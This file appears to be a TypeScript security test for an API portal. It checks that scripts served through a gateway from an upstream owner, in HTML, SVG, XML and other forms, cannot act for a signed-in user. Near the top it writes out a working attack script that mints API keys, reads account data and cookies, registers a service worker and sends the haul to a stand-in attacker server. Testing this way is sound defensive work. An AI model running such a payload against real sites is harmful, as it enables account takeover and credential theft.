import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Browser, BrowserContext } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { newKey, signedInPerson, type Person } from '../server/testing/trial-person.ts'
import { startTrialPortal, type TrialPortal } from '../server/testing/trial-portal.ts'
import { openBrowser } from './browser.ts'

// An owner answers a page with a script, and somebody who is signed in to the portal is led to it, by a link with a key of
// the attacker's in it. Gateway and portal share an address here, as on a developer's machine, so the headers alone hold.

const attack = (ownerUrl: string, key: string): string => `
  (async () => {
    const loot = { ran: true }
    const attempt = async (name, steal) => { try { loot[name] = await steal() } catch (error) { loot[name] = String(error) } }
    const json = { 'content-type': 'application/json' }
    const body = JSON.stringify({ name: 'Stolen', environment: 'live' })
    await attempt('key', async () => (await fetch('/portal/v1/keys', { method: 'POST', headers: json, body })).text())
    await attempt('account', async () => (await fetch('/portal/v1/account')).text())
    await attempt('cookie', async () => document.cookie + localStorage.length)
    await attempt('worker', async () => (await navigator.serviceWorker.register('/api/demo/things/worker?app_key=${key}', { scope: '/' })).scope)
    await fetch('${ownerUrl}/loot', { method: 'POST', mode: 'no-cors', body: JSON.stringify(loot) })
  })()`

/** Whatever of the kinds of document in which a browser runs a script. */
const documents = {
  html: ['text/html', (script: string) => `<!doctype html><title>x</title><script>${script}</script>`],
  xhtml: [
    'application/xhtml+xml',
    (script: string) => `<html xmlns="http://www.w3.org/1999/xhtml"><script><![CDATA[${script}]]></script></html>`,
  ],
  svg: [
    'image/svg+xml',
    (script: string) => `<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[${script}]]></script></svg>`,
  ],
  xml: [
    'text/xml',
    (script: string) => `<x><script xmlns="http://www.w3.org/1999/xhtml"><![CDATA[${script}]]></script></x>`,
  ],
  untyped: [undefined, (script: string) => `<!doctype html><script>${script}</script>`],
} as const

let loot: string[] = []
let key = ''
const owner = createServer(async (request, response) => {
  const path = (request.url ?? '').split('?')[0] ?? ''
  if (path === '/loot') {
    let text = ''
    for await (const chunk of request) text += String(chunk)
    loot.push(text)
    return void response.end()
  }
  const name = path.split('/').at(-1) ?? ''
  const orders = {
    'service-worker-allowed': '/',
    'clear-site-data': '"cookies"',
    'set-cookie': 'portal_session=tossed; Path=/',
  }
  if (name === 'worker') {
    response.writeHead(200, { ...orders, 'content-type': 'text/javascript' })
    return void response.end(`self.addEventListener('fetch', () => {})`)
  }
  const [type, write] = documents[name as keyof typeof documents] ?? documents.html
  response.writeHead(200, { ...orders, ...(type === undefined ? {} : { 'content-type': type }) })
  response.end(write(attack(ownerUrl(), key)))
})
const ownerUrl = (): string => `http://127.0.0.1:${(owner.address() as AddressInfo).port}` // TCP, so not a pipe's name

let portal: TrialPortal
let browser: Browser
let person: Person

beforeAll(async () => {
  await new Promise<void>((resolve) => owner.listen(0, '127.0.0.1', resolve))
  portal = await startTrialPortal({ UPSTREAM_DEMO: ownerUrl() })
  person = await signedInPerson(portal.origin, 'victim@example.org')
  key = (await newKey(await signedInPerson(portal.origin, 'attacker@example.org'))).secret
  browser = await openBrowser()
})
afterAll(async () => {
  await browser?.close()
  await portal?.close()
  owner.closeAllConnections()
  await new Promise((resolve) => owner.close(resolve))
})

/** A browser in which somebody is signed in. */
async function signedInBrowser(): Promise<BrowserContext> {
  loot = []
  const context = await browser.newContext({ baseURL: portal.origin })
  await context.addCookies(
    [...person.cookies].map(([name, value]) => ({ name, value, url: portal.origin, httpOnly: true })),
  )
  return context
}

async function expectNothingTaken(context: BrowserContext): Promise<void> {
  // Long enough for a script that runs to have told of it.
  await new Promise((resolve) => setTimeout(resolve, 500))
  expect(loot).toEqual([])
  expect(context.serviceWorkers()).toEqual([])
  const cookies = await context.cookies(portal.origin)
  expect(cookies.map(({ name, value }) => [name, value])).toEqual([...person.cookies])
  expect((await person.call('GET', '/keys')).body.keys).toEqual([])
  await context.close()
}

const addressOf = (kind: string): string => `${portal.origin}/api/demo/things/${kind}?app_key=${key}`

describe.each(Object.keys(documents))('an owner’s %s cannot act for who is signed in', (kind) => {
  test('when a link leads there', async () => {
    const context = await signedInBrowser()
    const page = await context.newPage()
    await page.goto(addressOf(kind)).catch(() => {})
    await expectNothingTaken(context)
  })

  test('by the policy alone, where a browser draws it in spite of all', async () => {
    const context = await signedInBrowser()
    await context.route('**/api/**', async (route) => {
      const response = await route.fetch()
      const { 'content-disposition': _saved, ...headers } = response.headers()
      await route.fulfill({ response, headers })
    })
    const page = await context.newPage()
    await page.goto(addressOf(kind)).catch(() => {})
    await expectNothingTaken(context)
  })

  test('inside another page', async () => {
    const context = await signedInBrowser()
    const page = await context.newPage()
    await page.goto(`${portal.origin}/healthz`)
    await page.evaluate((address) => {
      for (const name of ['iframe', 'object', 'embed'] as const) {
        const element = document.createElement(name)
        element.setAttribute(name === 'object' ? 'data' : 'src', address)
        document.documentElement.append(element)
      }
    }, addressOf(kind))
    await expectNothingTaken(context)
  })
})

test('an owner’s script is no worker and no script of ours', async () => {
  const context = await signedInBrowser()
  const page = await context.newPage()
  await page.goto(`${portal.origin}/healthz`)
  const outcome = await page.evaluate(async (address) => {
    const script = document.createElement('script')
    script.src = address
    const loaded = await new Promise((resolve) => {
      script.addEventListener('load', () => resolve('ran'))
      script.addEventListener('error', () => resolve('refused'))
      document.documentElement.append(script)
    })
    const worker = await navigator.serviceWorker.register(address).then(
      () => 'registered',
      () => 'refused',
    )
    return [loaded, worker]
  }, addressOf('worker'))
  expect(outcome).toEqual(['refused', 'refused'])
  await expectNothingTaken(context)
})
